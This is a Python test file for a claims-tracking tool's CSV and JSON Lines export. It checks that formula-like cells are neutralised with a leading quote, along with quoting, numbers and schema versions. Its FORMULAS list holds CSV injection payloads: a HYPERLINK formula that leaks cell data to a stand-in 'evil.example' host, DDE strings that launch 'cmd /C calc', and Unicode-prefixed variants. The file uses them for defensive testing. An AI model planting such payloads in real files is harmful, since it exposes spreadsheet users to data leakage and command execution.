"""The CSV export: no cell a spreadsheet would run (OWASP's CSV injection guidance), numbers stay
numbers, quotes and line breaks stay inside their cell, and every row names its schema version."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from records_support import at_status

from claims.annotations import apply_changes, new_claim, parse_draft
from claims.errors import ExportFormatError
from claims.formats.articles import make_article
from claims.formats.export import CSV_COLUMNS, SCHEMA_VERSION, export_bytes, render_csv
from claims.formats.loading import load_export, read_export
from claims.models import Article, CheckFocus, ClaimChanges, ClaimStatus, Evidence, Stance, Verdict
from claims.store.memory import MemoryRepository
from claims.workflow import new_comment

BODY = "The ministry said 5 people were hurt. Nobody denied it."


def store_with_claim(notes: str = "", claimant: str | None = "The ministry") -> MemoryRepository:
    repo = MemoryRepository()
    article = make_article(BODY, title="Harbour")
    repo.add_article(article)
    add_claim(repo, article, "5 people were hurt", notes=notes, claimant=claimant)
    return repo


def add_claim(repo: MemoryRepository, article: Article, quote: str, **fields: object) -> None:
    start = article.text.index(quote)
    draft = parse_draft({"article_id": article.id, "start": start, "end": start + len(quote), **fields})
    repo.add_claim(new_claim(article, draft, by="ana"))


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def exported_notes(notes: str) -> str:
    [row] = csv_rows(export_bytes(store_with_claim(notes=notes), "csv"))
    return row["notes"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "|cmd /C calc",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    " =1+1",
    "   +1",
    "\u00a0=1+1",  # no-break space
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte order mark
    "\u2060@SUM(1)",  # word joiner
    "\u3000=1+1",  # ideographic space
    " \t\r\n\u00a0\u200b=1+1",
    "\uff1d1+1",  # full-width =
    "\uff0b1+1",  # full-width +
    "\uff0d1+1",  # full-width -
    "\uff20SUM(1)",  # full-width @
    "\uff5ccmd",  # full-width |
    "\ufe661+1",  # small =
]


@pytest.mark.parametrize("formula", FORMULAS, ids=ascii)
def test_a_cell_that_could_start_a_formula_gets_a_leading_quote(formula: str) -> None:
    assert exported_notes(formula) == "'" + formula


@pytest.mark.parametrize(
    "text",
    ["5 people", "%", "% of voters", "'=already quoted", "Reuters", "", "a = b", "e-mail", "2021-11-29"],
    ids=ascii,
)
def test_plain_text_is_left_as_it_is(text: str) -> None:
    assert exported_notes(text) == text


def test_numbers_stay_bare_numbers_and_negative_numbers_are_not_defused() -> None:
    record = {
        column: "x" for column in CSV_COLUMNS if column not in ("start", "end", "version", "schema_version")
    }
    record |= {"start": -5, "end": 0, "version": 3, "source": None, "sentences": [], "evidence": []}
    record |= {"comments": [{"id": "c"}, {"id": "d"}]}
    data = render_csv([record])
    line = data.decode().splitlines()[1]
    assert ',"x",-5,0,"x",' in line and line.endswith(f',3,2,"""x""",{SCHEMA_VERSION}')
    [row] = csv_rows(data)
    assert (row["start"], row["end"], row["version"]) == ("-5", "0", "3")


def test_every_text_cell_is_quoted_and_numbers_are_not() -> None:
    header, line = export_bytes(store_with_claim(), "csv").decode().splitlines()
    cells = next(csv.reader([line]))
    start, end = cells[CSV_COLUMNS.index("start")], cells[CSV_COLUMNS.index("end")]
    assert f",{start},{end}," in line and f'"{cells[CSV_COLUMNS.index("quote")]}"' in line
    assert header == ",".join(f'"{column}"' for column in CSV_COLUMNS)


def test_quotes_commas_and_line_breaks_stay_inside_their_cell() -> None:
    notes = 'He said "no, never",\r\nthen left.\n"=1+1"'
    data = export_bytes(store_with_claim(notes=notes), "csv")
    [row] = csv_rows(data)
    assert row["notes"] == notes and row["claimant"] == "The ministry"
    assert list(row) == list(CSV_COLUMNS)


def test_every_row_carries_the_schema_version() -> None:
    [row] = csv_rows(export_bytes(store_with_claim(), "csv"))
    assert row["schema_version"] == str(SCHEMA_VERSION)
    assert CSV_COLUMNS[-1] == "schema_version"


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=40))
def test_any_notes_come_back_whole_and_a_spreadsheet_would_run_none(notes: str) -> None:
    cell = exported_notes(notes)
    assert cell in (notes, "'" + notes)
    visible = notes.lstrip(" \t\r\n\x00\u00a0\u200b\ufeff\u3000")
    starts = ("=", "+", "-", "@", "|", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\uff5c")
    if visible.startswith(starts) or notes.startswith(("\t", "\r", "\n")):
        assert cell.startswith("'")


# -- JSON Lines carry the schema version too


def test_each_json_lines_claim_carries_the_schema_version_and_loads_back() -> None:
    repo = store_with_claim()
    data = export_bytes(repo, "jsonl")
    [line] = data.decode().splitlines()
    assert json.loads(line)["schema_version"] == SCHEMA_VERSION
    claim = repo.list_claims()[0]
    repo.delete_claim(claim.article_id, claim.id, by="tester")
    report = load_export(repo, read_export(data, "claims.jsonl"))
    assert report.claims.added == 1


def test_a_json_lines_claim_from_a_newer_schema_is_refused_naming_its_line() -> None:
    repo = store_with_claim()
    [line] = export_bytes(repo, "jsonl").decode().splitlines()
    newer = json.dumps(json.loads(line) | {"schema_version": SCHEMA_VERSION + 1})
    with pytest.raises(ExportFormatError) as caught:
        read_export(f"{line}\n{newer}\n".encode(), "claims.jsonl")
    assert str(caught.value).startswith(
        f"line 2 of claims.jsonl: written by a newer version of this tool (schema {SCHEMA_VERSION + 1})"
    )


def test_a_row_carries_what_is_checked_the_review_stamps_the_thread_size_and_full_evidence() -> None:
    repo = store_with_claim()
    claim = repo.list_claims()[0]
    evidence = [
        Evidence(url="https://stats.example/t", title="Table", publisher="Statbel", stance=Stance.REFUTES,
                 accessed=dt.date(2024, 3, 2), note="row 4"),
    ]  # fmt: skip
    changes = ClaimChanges(
        verdict=Verdict.FALSE,
        evidence=evidence,
        claim_reviewed="Five people were hurt in the blast.",
        conclusion="Hospital records list three.",
        check_focus=CheckFocus.ATTRIBUTION,
    )
    claim = repo.update_claim(claim.article_id, claim.id, apply_changes(changes, None, "ana"))
    approved_at = dt.datetime(2024, 3, 4, 15, 0, tzinfo=dt.UTC)
    comments = [new_comment("ben", "Which hospital?"), new_comment("ana", "Both of them.")]
    stamped = at_status(claim, ClaimStatus.APPROVED).model_copy(
        update={"approved_by": "ben", "approved_at": approved_at, "comments": comments}
    )
    target = MemoryRepository()
    target.add_article(repo.get_article(claim.article_id))
    target.add_claim(stamped)

    [row] = csv_rows(export_bytes(target, "csv"))

    assert row["claim_reviewed"] == "Five people were hurt in the blast."
    assert (row["conclusion"], row["check_focus"]) == ("Hospital records list three.", "attribution")
    assert (row["rated_by"], row["approved_by"], row["status"]) == ("ana", "ben", "approved")
    assert row["approved_at"].startswith("2024-03-04T15:00:00") and row["published_at"] == ""
    assert row["comment_count"] == "2"
    assert json.loads(row["evidence"]) == [
        {"url": "https://stats.example/t", "title": "Table", "publisher": "Statbel", "accessed": "2024-03-02",
         "note": "row 4", "stance": "refutes"},
    ]  # fmt: skip
